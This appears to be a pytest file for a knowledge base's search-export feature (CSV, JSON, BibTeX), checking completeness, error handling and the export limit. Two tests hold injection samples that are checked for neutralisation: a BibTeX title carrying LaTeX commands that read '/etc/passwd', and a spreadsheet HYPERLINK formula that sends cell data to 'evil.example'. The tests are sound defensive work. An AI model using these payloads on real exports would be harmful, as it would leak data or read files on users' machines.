"""Exports of a search (CSV, JSON, BibTeX): exactly the service's results, all pages, bounded."""

from __future__ import annotations

import csv
import io
import json
import re
from urllib.parse import urlencode

import bibtexparser
import pytest
from bs4 import BeautifulSoup

from indexer.live import open_service
from kb.citation import bibtex
from kb.export import EXPORT_LIMIT, plain
from kb.search import SearchRequest, SearchService
from tests.trainers_corpus import build, many_cases
from web import create_app

ROOT = "http://localhost"
SEARCHES = [
    {"q": "agua"},
    {"q": ""},
    {"q": "ciudades", "sort": "date"},
    {"q": "", "country": ["EC", "FR"]},
    {"q": "ciudades", "type": "webinar"},
    {"q": "migarcion"},  # misspelt: the export holds the corrected search's results
    {"q": "hermanamientos", "theme": "hermanamientos", "ui": "en"},
]


@pytest.fixture(scope="module")
def client(built_index):
    return create_app({"KB_INDEX": str(built_index), "TESTING": True}).test_client()


def every_page(service: SearchService, params: dict) -> list[dict]:
    """The service's hits for a search, three per page, every page."""
    filters = {k: v if isinstance(v, list) else [v] for k, v in params.items()}
    q = filters.pop("q", [""])[0]
    sort = filters.pop("sort", ["relevance"])[0]
    ui = filters.pop("ui", ["es"])[0]
    hits, page = [], 1
    while True:
        body = service.search(
            SearchRequest(q=q, filters=filters, sort=sort, ui=ui, page=page, per_page=3)
        ).to_dict()
        hits += body["hits"]
        if page * 3 >= body["total"]:
            return hits
        page += 1


def query(params: dict) -> str:
    return urlencode(params, doseq=True)


def read_csv(response) -> list[dict]:
    return list(csv.DictReader(io.StringIO(response.get_data().decode("utf-8-sig"))))


@pytest.mark.parametrize("params", SEARCHES, ids=lambda p: query(p) or "browse")
def test_csv_holds_exactly_the_results_of_the_search(client, service, params):
    expected = every_page(service, params)
    assert expected, "each search of this test finds something"
    response = client.get(f"/export.csv?{query(params)}")
    assert response.status_code == 200
    assert response.content_type == "text/csv; charset=utf-8"
    rows = read_csv(response)
    assert list(rows[0]) == [
        "title",
        "type",
        "date",
        "countries",
        "cities",
        "themes",
        "networks",
        "language",
        "url",
        "snippet",
    ]
    assert [r["url"] for r in rows] == [ROOT + h["url"] for h in expected]
    for row, hit in zip(rows, expected, strict=True):
        assert row["title"] == hit["title"] and row["type"] == hit["type"]
        assert row["date"] == hit["date"] and row["language"] == hit["language"]
        for name in ("countries", "cities", "themes", "networks"):
            assert row[name] == "; ".join(hit[name])
        assert "<" not in row["snippet"] and row["snippet"] == plain(hit["snippet"])
    assert response.headers["X-Kb-Total"] == str(len(expected))
    assert response.headers["X-Kb-Truncated"] == "false"


@pytest.mark.parametrize("params", SEARCHES, ids=lambda p: query(p) or "browse")
def test_json_holds_exactly_the_results_of_the_search(client, service, params):
    expected = every_page(service, params)
    response = client.get(f"/export.json?{query(params)}")
    assert response.content_type == "application/json"
    body = json.loads(response.get_data())
    assert [r["id"] for r in body["results"]] == [h["id"] for h in expected]
    assert [r["url"] for r in body["results"]] == [ROOT + h["url"] for h in expected]
    assert [r["section"] for r in body["results"]] == [h["section"] for h in expected]
    assert [r["t"] for r in body["results"]] == [h["t"] for h in expected]
    assert body["total"] == body["exported"] == len(expected) and body["truncated"] is False
    assert body["query"] == params["q"]
    assert body["search_url"].startswith(ROOT + "/")


@pytest.mark.parametrize("params", SEARCHES, ids=lambda p: query(p) or "browse")
def test_bibtex_parses_with_one_entry_per_result(client, service, params):
    expected = every_page(service, params)
    response = client.get(f"/export.bib?{query(params)}")
    assert response.content_type == "application/x-bibtex; charset=utf-8"
    library = bibtexparser.parse_string(response.get_data(as_text=True))
    assert library.failed_blocks == []
    assert len(library.entries) == len(expected)
    titles = [e["title"].strip("{}") for e in library.entries]
    assert titles == [h["title"] for h in expected]
    assert [e["url"] for e in library.entries] == [f"{ROOT}/{h['id']}" for h in expected]
    assert len({e.key for e in library.entries}) == len(expected)


def test_a_bibtex_field_runs_no_latex_and_closes_where_it_should():
    """An editor's title or name is text in a .bib file: no LaTeX command of its own
    (``\\input`` reads files, ``\\write18`` runs programs) and no brace that ends its field."""
    doc = {
        "title": r"Fondos \input{/etc/passwd} al 100% ~ ^ x} , note = {otra",
        "date": "2020",
        "type": "case",
        "slug": "fondos",
        "authors": [r"\def\x Ana"],
    }
    entry = bibtex(doc, "https://kb.example/cases/fondos")
    assert (
        r"title = {{Fondos \textbackslash{}input\textbraceleft{}/etc/passwd\textbraceright{} "
        r"al 100\% \textasciitilde{} \textasciicircum{} x\textbraceright{} , "
        r"note = \textbraceleft{}otra}}"
    ) in entry
    assert r"author = {Ana, \textbackslash{}def\textbackslash{}x}" in entry  # family, given
    [parsed] = bibtexparser.parse_string(entry).entries
    assert parsed["note"] == "Case study"


def test_downloads_are_named_after_the_query(client):
    for fmt in ("csv", "json", "bib"):
        disposition = client.get(f"/export.{fmt}?q=Cooperación técnica").headers[
            "Content-Disposition"
        ]
        assert re.fullmatch(
            rf'attachment; filename="kb-cooperacion-tecnica-\d{{4}}-\d\d-\d\d\.{fmt}"',
            disposition,
        )
    assert 'filename="kb-all-' in client.get("/export.csv").headers["Content-Disposition"]


def test_paging_parameters_are_ignored_but_checked(client, service):
    everything = read_csv(client.get("/export.csv?q=ciudades&page=2&per_page=3"))
    assert len(everything) == len(every_page(service, {"q": "ciudades"})) > 3


@pytest.mark.parametrize(
    "bad, parameter",
    [
        ("page=0", "page"),
        ("per_page=500", "per_page"),
        ("sort=popular", "sort"),
        ("year=20x6", "year"),
        ("colour=red", "colour"),
        ("q=a&q=b", "q"),
        ("q=" + "x" * 1001, "q"),
    ],
)
@pytest.mark.parametrize("fmt", ["csv", "json", "bib"])
def test_bad_parameters_are_400s_naming_them(client, bad, parameter, fmt):
    response = client.get(f"/export.{fmt}?{bad}")
    assert response.status_code == 400
    body = response.get_json()
    assert body["parameter"] == parameter and body["error"].startswith(parameter)


def test_the_search_page_links_its_exports_with_the_same_parameters(client):
    page = client.get("/?q=agua&country=EC&page=1&sort=date").get_data(as_text=True)
    exports = BeautifulSoup(page, "html.parser").select_one("p.exports")
    links = {a.get_text(): a["href"] for a in exports.find_all("a")}
    assert links["CSV"] == "/export.csv?q=agua&country=EC&sort=date"
    assert links["JSON"] == "/export.json?q=agua&country=EC&sort=date"
    assert links["BibTeX"] == "/export.bib?q=agua&country=EC&sort=date"
    assert links["Canal Atom"].startswith("/feed.atom?q=agua&country=EC")
    rows = read_csv(client.get(links["CSV"]))
    assert {r["countries"] for r in rows} and all("EC" in r["countries"] for r in rows)


# -- the bound ----------------------------------------------------------------------------
@pytest.fixture(scope="module")
def big(tmp_path_factory):
    """An index of 1,050 cases that all match ``municipio``."""
    base = tmp_path_factory.mktemp("big")
    index = build(base / "content", base / "index", many_cases(EXPORT_LIMIT + 50))
    app = create_app({"KB_INDEX": str(index), "TESTING": True})
    return app.test_client(), open_service(index)


def test_an_export_stops_at_the_bound_and_says_so(big):
    client, service = big
    total = service.search(SearchRequest(q="municipio")).to_dict()["total"]
    assert total == EXPORT_LIMIT + 50
    first = [
        h["id"]
        for page in range(1, 11)
        for h in service.search(SearchRequest(q="municipio", page=page, per_page=100)).to_dict()[
            "hits"
        ]
    ]
    response = client.get("/export.csv?q=municipio")
    rows = read_csv(response)
    assert [r["url"] for r in rows] == [f"{ROOT}/{i}" for i in first]
    assert len(rows) == EXPORT_LIMIT
    assert response.headers["X-Kb-Truncated"] == "true"
    assert response.headers["X-Kb-Total"] == str(total)
    body = client.get("/export.json?q=municipio").get_json()
    assert body["truncated"] is True and body["exported"] == EXPORT_LIMIT == len(body["results"])
    bib = client.get("/export.bib?q=municipio").get_data(as_text=True)
    assert bib.startswith(f"% kb: {EXPORT_LIMIT} of {total} results of {ROOT}/?q=municipio")
    assert f"truncated at {EXPORT_LIMIT} results" in bib.split("\n")[1]
    library = bibtexparser.parse_string(bib)
    assert len(library.entries) == EXPORT_LIMIT and library.failed_blocks == []
    assert len({e.key for e in library.entries}) == EXPORT_LIMIT


def test_a_narrower_search_of_the_big_index_is_whole(big):
    client, service = big
    expected = every_page(service, {"q": "municipio", "year": "2003"})
    rows = read_csv(client.get("/export.csv?q=municipio&year=2003"))
    assert [r["url"] for r in rows] == [ROOT + h["url"] for h in expected]
    assert 0 < len(rows) < EXPORT_LIMIT


def test_a_csv_cell_never_starts_a_spreadsheet_formula(tree, tmp_path):
    from indexer.build import build_index
    from tests.conftest import TODAY
    from tests.corpus import front

    formula = '=HYPERLINK("http://evil.example/?"&A1,"ver")'
    root = tree(
        {
            "cases/formula.md": front(
                title=f"'{formula}'",
                date="2020",
                countries="[UY]",
                themes="[agua]",
                city="'@Montevideo'",
                summary="'-2+3 y agua potable'",
            )
            + "\n## Contexto\n\n+1 litros de agua potable por persona.\n"
        }
    )
    index = tmp_path / "ix"
    assert build_index(root, index, today=TODAY).exit_code == 0
    client = create_app({"KB_INDEX": str(index), "TESTING": True}).test_client()
    rows = read_csv(client.get("/export.csv?q=potable"))
    row = next(r for r in rows if "HYPERLINK" in r["title"])
    assert row["title"] == "'" + formula
    assert row["cities"] == "'@Montevideo"
    for cell in (v for r in rows for v in r.values()):
        assert cell[:1] not in ("=", "+", "-", "@"), cell
